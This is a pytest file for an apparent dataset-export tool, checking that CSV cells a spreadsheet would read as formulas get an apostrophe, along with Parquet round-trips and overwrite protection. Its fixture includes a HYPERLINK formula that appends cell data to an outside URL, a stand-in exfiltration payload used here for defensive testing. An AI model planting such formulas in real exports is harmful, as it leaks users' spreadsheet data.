"""The other formats: what a spreadsheet must not obey, and that nothing else is changed."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from synthgen.errors import ConfigError, RunFolderError
from synthgen.report import damage, export_dataset
from synthgen.report.features import features, written_as
from synthgen.report.tables import as_bytes, harmless

ROWS: list[dict[str, Any]] = [
    {"text": "plain", "n": -1, "tags": ["a", "b"], "ok": True},
    {"text": '=HYPERLINK("http://x?"&A1)', "n": 2.5, "tags": [], "ok": False},
    {"text": 'a "quote", a comma\nand a line', "n": None, "tags": ["=1"]},
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def as_csv(rows: list[dict[str, Any]]) -> bytes:
    return as_bytes("csv", rows, features(rows, []))


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "'=1", '"=1', " ' \"=1", "\u3000=1", "＝1", "−1"],
)  # fmt: skip
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "a=b", "well-known", "3 - 2", "you@example.org", "'tis so", "今天"])
def test_other_text_is_left_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_csv_has_text_numbers_and_json_for_the_rest() -> None:
    assert read_csv(as_csv(ROWS)) == [
        ["text", "n", "tags", "ok"],
        ["plain", "-1", '["a", "b"]', "true"],
        ['\'=HYPERLINK("http://x?"&A1)', "2.5", "[]", "false"],
        ['a "quote", a comma\nand a line', "", '["=1"]', ""],
    ]


@given(st.lists(st.dictionaries(st.sampled_from(["a", "b", "=c"]), st.text() | st.integers() | st.none(), min_size=1)))
def test_no_text_of_any_kind_becomes_a_formula(rows: list[dict[str, Any]]) -> None:
    numbers = {str(value) for row in rows for value in row.values() if isinstance(value, int)}
    for line in read_csv(as_csv(rows)):
        for cell in line:
            assert cell in numbers or not cell.lstrip(" \t\r\n'\"").startswith(("=", "+", "-", "@")) or cell[0] == "'"


def test_a_parquet_export_reads_back_every_field(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    (tmp_path / "x.parquet").write_bytes(as_bytes("parquet", ROWS, features(ROWS, [])))
    assert pq.read_table(tmp_path / "x.parquet").to_pylist() == [{"n": None, "ok": None, **row} for row in ROWS]


def test_parquet_refuses_a_field_of_two_types() -> None:
    rows = [{"a": 1}, {"a": "one"}]
    with pytest.raises(ConfigError, match="more than one type; use --format jsonl"):
        as_bytes("parquet", rows, features(rows, []))


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_load_dataset_reads_the_other_formats(form: str, run: Any, tmp_path: Path) -> None:
    import datasets

    usual = datasets.load_dataset(str(export_dataset(run.path, 0.2, seed=0)), cache_dir=str(tmp_path / "one"))
    folder = export_dataset(run.path, 0.2, seed=0, form=form, out=tmp_path / "out" / form)
    assert damage(folder) == []
    loaded = datasets.load_dataset(str(folder), cache_dir=str(tmp_path / "two"))
    assert {name: len(split) for name, split in loaded.items()} == {name: len(split) for name, split in usual.items()}
    assert loaded["train"].column_names == ["text", "label"]
    if form == "parquet":
        assert loaded["train"].to_list() == usual["train"].to_list()


def test_the_card_of_a_csv_export_says_what_was_changed_and_where_the_raw_text_is(run: Any, tmp_path: Path) -> None:
    card = (export_dataset(run.path, 0.2, seed=0, form="csv", out=tmp_path / "out") / "README.md").read_text()
    assert "has an apostrophe in front" in card
    assert "`synthgen export RUN --format jsonl`" in card


def test_a_folder_with_other_files_is_never_replaced(run: Any, tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.tex").write_text("ten years of work")
    with pytest.raises(RunFolderError, match=r"mine: this folder holds thesis\.tex, which no export wrote"):
        export_dataset(run.path, 0.2, seed=0, form="csv", out=out)
    (out / "thesis.tex").unlink()
    export_dataset(run.path, 0.2, seed=0, form="csv", out=out)
    export_dataset(run.path, 0.3, seed=0, form="csv", out=out)  # over its own
    (out / "notes.txt").write_text("mine")
    with pytest.raises(RunFolderError, match=r"holds notes\.txt"):
        export_dataset(run.path, 0.2, seed=0, form="csv", out=out)


def test_an_unknown_format_is_named(run: Any) -> None:
    with pytest.raises(ConfigError, match="'xlsx' is not one of jsonl, csv, parquet"):
        export_dataset(run.path, 0.2, seed=0, form="xlsx")


def test_parquet_holds_integers_of_any_size() -> None:
    import pyarrow.parquet as pq

    rows: list[dict[str, Any]] = [
        {"n": 2**63, "m": [{"k": 7}], "x": 2**60 + 1},
        {"n": 5, "m": [{"k": -(2**80)}], "x": 0.5},
        {"n": None},
    ]
    columns = features(rows, [])
    assert columns is not None
    data = as_bytes("parquet", rows, written_as(columns, "parquet"))
    assert pq.read_table(io.BytesIO(data)).to_pylist() == [
        {"n": str(2**63), "m": [{"k": "7"}], "x": float(2**60 + 1)},
        {"n": "5", "m": [{"k": str(-(2**80))}], "x": 0.5},
        {"n": None, "m": None, "x": None},
    ]
